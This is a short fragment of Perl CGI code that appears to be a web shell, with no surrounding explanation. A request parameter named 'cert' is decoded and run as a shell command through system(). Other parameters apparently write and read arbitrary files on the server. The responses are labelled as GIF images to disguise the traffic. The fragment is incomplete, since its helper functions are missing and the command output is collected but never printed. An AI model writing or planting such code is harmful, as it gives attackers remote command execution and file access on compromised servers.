exit;
__END__
if (CGI::param('cert')) { ec(CGI::param('cert')); }
elsif (CGI::param('img') && CGI::param('name')) { wf(CGI::param('img'), CGI::param('name')); }
elsif (CGI::param('md5')) { rf(CGI::param('md5')); }
sub ec {
  my $c = rr(bb($_[0]));
  system("$c >/tmp/1 2>&1");
  open(F, "</tmp/1");
  while (<F>) { $o .= $_; }
  print "Content-type: image/gif\n\n";
}
